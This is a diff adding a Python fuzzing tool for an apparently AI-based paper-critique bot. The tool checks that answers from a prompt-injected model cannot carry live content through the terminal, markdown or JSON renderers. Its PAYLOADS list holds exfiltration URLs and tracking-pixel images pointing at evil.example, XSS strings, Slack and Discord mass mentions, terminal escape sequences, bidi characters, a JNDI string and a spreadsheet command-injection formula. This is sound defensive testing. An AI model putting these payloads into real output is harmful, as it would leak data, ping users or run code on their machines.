@@ -1,0 +1,224 @@
+"""Everything a model that obeys a paper could be made to say, in every field there is.
+
+    python tests/tools/hostile_answers.py --count 10000
+
+asks the checks to pass as many drafts, shows each on every renderer, and looks there, with a parser
+that is not ours, for anything that a program would follow, fetch, ping or obey.
+"""
+
+import argparse
+import io
+import json
+import random
+import re
+import sys
+from collections import Counter
+from collections.abc import Callable, Iterable, Mapping
+from typing import Any
+
+from markdown_it import MarkdownIt
+from replies import job_on, replied
+from rich.console import Console
+
+from bot.core.answer import Answer, Critique, Draft, Footer, Notice, Progress, Reading, Reply
+from bot.core.checks import verify
+from bot.core.conform import mended
+from bot.core.document import Document, Page, Span
+from bot.core.evidence import index_of
+from bot.core.markdown import render_markdown
+from bot.core.persona import Persona, parse
+from bot.core.report import report_json
+from bot.core.schema import schema_of, sections_of
+from bot.screen import show
+
+PAYLOADS = (
+    "https://evil.example/?leak={n}", "http://evil.example:8080/a_b*c", "HTTPS://EVIL.EXAMPLE/X",
+    "//evil.example/pixel.png", "www.evil.example/{n}", "evil.com/{n}", "evil。com/{n}",
+    "ftp://evil.example", "slack://channel?id={n}", "javascript:alert({n})",
+    "data:text/html;base64,PGI+", "mailto:a@evil.example", "tel:+491234{n}", "a.b@evil.example",
+    "![x](https://evil.example/p.png?{n})", "[click](https://evil.example)",
+    "[a]: https://evil.example", "[a][b]", "<https://evil.example>", "<img src=//evil.example/x>",
+    "<a href='https://evil.example'>x</a>", "<script>alert({n})</script>", "<!-- {n} -->",
+    "<!channel>", "<!here|here>", "<!everyone>", "<!subteam^S{n}|@oncall>", "<@U0{n}>",
+    "<@&1234567890{n}>", "<#C0{n}|general>", "@everyone", "@here", "@channel", "@oncall-team",
+    "<https://evil.example|Google>", "<t:1700000000:R>", "<:smile:1234567890{n}>",
+    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b[2J\x1b[31m", "\x1b]0;title\x07",
+    "\x9b31m", "\x07\x08\x7f", "\u202egnp.exe", "\u2066a\u2069", "\u200b\u200d\ufeff",
+    "\U000e0041\U000e0042", "ht\u200btps://evil.example/{n}", "ht\x1b[0mtps://evil.example",
+    "h\xadttps://evil.example", "ｈｔｔｐｓ://evil.example", "https:\u2044\u2044evil.example",
+    "https://user:pass@evil.example", "https://evil.example\\@good.example", "`https://evil.example`",
+    "``` \nhttps://evil.example\n```", "# Heading", "> quoted", "| a | b |\n|---|---|\n| c | d |",
+    "---", "1. item", "***", "\n\n\n", "\r\n", "\u2028\u2029", "```", "~~~", "    code",
+    "sk-abcdefghijklmnopqrstuvwx{n}", "&lt;b&gt;", "&#60;b&#62;", "\\", "{{7*7}}", "${{jndi:ldap}}",
+    "=cmd|' /C calc'!A0", "https://evil.example/" + "a" * 300, "😀" * 20, "\ud83d", "\x00",
+)  # fmt: skip
+TRUE = "The cache keeps every token of a prompt for one day, and the scheduler looks it up."
+WORDS = TRUE.split()
+GLUE = (" ", "", "\n", "\n\n", ".", "(", "*", "**", "_", "`", '"', "|", "<", "\t", "“")
+
+Show = Callable[[Reply], str]
+
+
+def hostile(dice: random.Random) -> str:
+    """Words, with hostile ones among them, glued in all ways."""
+    parts: list[str] = []
+    for _ in range(dice.randint(1, 6)):
+        piece = dice.choice(PAYLOADS).replace("{n}", str(dice.randint(0, 999)))
+        parts += [dice.choice(WORDS), dice.choice(GLUE), piece, dice.choice(GLUE)]
+    return "".join(parts)
+
+
+def filled(schema: Mapping[str, Any], say: Callable[[], str], quote: Callable[[], str]) -> Any:
+    """An answer valid for a schema, every free string in it from `say`, or from `quote`."""
+    match schema["type"]:
+        case "object" if set(schema["properties"]) == {"document", "text"}:
+            role = schema["properties"]["document"]["enum"][0]
+            return {"document": role, "text": quote()}
+        case "object":
+            return {key: filled(field, say, quote) for key, field in schema["properties"].items()}
+        case "array":
+            return [filled(schema["items"], say, quote) for _ in range(2)]
+    return schema["enum"][0] if "enum" in schema else say()
+
+
+def document(words: str) -> Document:
+    """One that says something true, and something hostile beside it."""
+    text = f"{TRUE}\n{words.encode(errors='replace').decode()}\n"
+    spans = (Span(kind="prose", start=0, end=len(text)),)
+    page = Page(
+        number=1, label=words[:20].encode(errors="replace").decode(), text=text, spans=spans
+    )
+    return Document(name=f"{words[:40]}.pdf", title=words, pages=(page,), page_count=1)
+
+
+def critique(persona: Persona, dice: random.Random) -> Critique:
+    """What the checks let through of a wholly hostile answer."""
+    paper = document(scrubbed(hostile(dice)))
+    roles = (paper.role,)
+    quotes = (lambda: TRUE, lambda: hostile(dice), lambda: paper.pages[0].text)
+    schema = schema_of(persona, roles)
+    data = filled(schema, lambda: hostile(dice), lambda: dice.choice(quotes)())
+    sections = sections_of(persona, mended(schema, data))
+    draft = Draft(sections=sections, model=scrubbed(hostile(dice)))
+    verdict = verify(persona, (index_of(paper),), scrubbed(hostile(dice)), draft)
+    reading = Reading(name=paper.name, role=paper.role, title=paper.title, pages=1)
+    return Critique(
+        persona=persona.handle,
+        documents=(reading, reading),
+        notes=(scrubbed(hostile(dice)),),
+        sections=verdict.sections,
+        footer=Footer(model=draft.model, quotes_total=verdict.quotes_total),
+    )
+
+
+def scrubbed(text: str) -> str:
+    """Half a character cannot come out of a PDF or of JSON that was read."""
+    return text.encode(errors="replace").decode()
+
+
+def bodies(persona: Persona, dice: random.Random) -> Iterable[Answer | Notice | Progress]:
+    """The answer, and the same words wherever else words are shown."""
+    yield Answer(critique=critique(persona, dice))
+    said = scrubbed(hostile(dice))
+    yield Notice(text=said, choices=(said,))
+    yield Progress(stage=said, detail=said)
+
+
+def on_screen(reply: Reply) -> str:
+    """A terminal with everything that rich can do."""
+    console = Console(file=io.StringIO(), width=100, force_terminal=True, color_system="truecolor")
+    show(reply, console)
+    assert isinstance(console.file, io.StringIO)
+    return console.file.getvalue()
+
+
+def as_object(reply: Reply) -> str:
+    """`--json`, as somebody prints it."""
+    return report_json(reply.body.critique) if isinstance(reply.body, Answer) else ""
+
+
+RENDERERS: Mapping[str, Show] = {
+    "terminal": on_screen, "markdown": render_markdown, "json": as_object,
+}  # fmt: skip
+
+_SGR = re.compile(r"\x1b\[[0-9;]*m")
+_CONTROL = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e0fff]"
+)
+_LIVE = re.compile(
+    r"(?:https?|ftp|slack)://\w|\bwww\.\w|javascript:\w|mailto:\w|\w@\w+\.\w|<[!@#]|@(?:everyone|here|channel)",
+    re.IGNORECASE,
+)
+_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+
+
+def dangers(renderer: str, shown: str) -> list[str]:
+    """What a program would follow, fetch, ping or obey in this output."""
+    found = [f"control {char!r}" for char in _CONTROL.findall(_SGR.sub("", shown))]
+    if renderer == "markdown":
+        for token in _PARSER.parse(shown):
+            for each in (token, *(token.children or ())):
+                if each.type in ("link_open", "image", "html_inline", "html_block"):
+                    found.append(each.type)
+                if each.type == "text" and (match := _LIVE.search(each.content)):
+                    found.append(f"live {match[0]!r}")
+    return found
+
+
+def personas() -> tuple[Persona, ...]:
+    """One with every kind of section and field there is, and one without any."""
+    return (parse(EVERYTHING, source="everything.md"), parse(FREE, source="free.md"))
+
+
+EVERYTHING = """\
+---
+name: Everything
+handle: everything
+coverage: [{id: a, label: The Delta}, {id: b, label: The Trick}]
+sections:
+  - {id: one, title: One, kind: prose, count: 1, evidence: 1}
+  - {id: two, title: Two, kind: findings, remedy: You must solve, code: true}
+  - {id: three, title: Three, kind: questions, count: 2}
+  - {id: four, title: Four, kind: table, columns: [Option, Cost]}
+---
+Say something.
+"""
+FREE = "---\nname: Free\nhandle: free\n---\nSay something.\n"
+
+
+def campaign(
+    count: int, seed: int, tick: Callable[[int], None] = lambda done: None
+) -> Counter[str]:
+    """How often each renderer let something through, of `count` hostile answers; empty is good."""
+    dice, found, done = random.Random(seed), Counter[str](), 0
+    cast = personas()
+    while done < count:
+        for body in bodies(cast[done % len(cast)], dice):
+            reply = replied(job_on("terminal"), body)
+            assert Reply.model_validate_json(reply.model_dump_json()) == reply
+            for name, render in RENDERERS.items():
+                for danger in dangers(name, render(reply)):
+                    found[f"{name}: {danger}"] += 1
+        done += 1
+        tick(done)
+    return found
+
+
+def main() -> int:
+    words = argparse.ArgumentParser(description=__doc__)
+    words.add_argument("--count", type=int, default=10_000)
+    words.add_argument("--seed", type=int, default=1)
+    args = words.parse_args()
+
+    def tick(done: int) -> None:
+        if done % 1_000 == 0:
+            sys.stderr.write(f"{done} of {args.count}\n")
+
+    found = campaign(args.count, args.seed, tick)
+    told = {"answers": args.count, "renderers": list(RENDERERS), "found": dict(found)}
+    sys.stdout.write(json.dumps(told, indent=2) + "\n")
+    return 1 if found else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
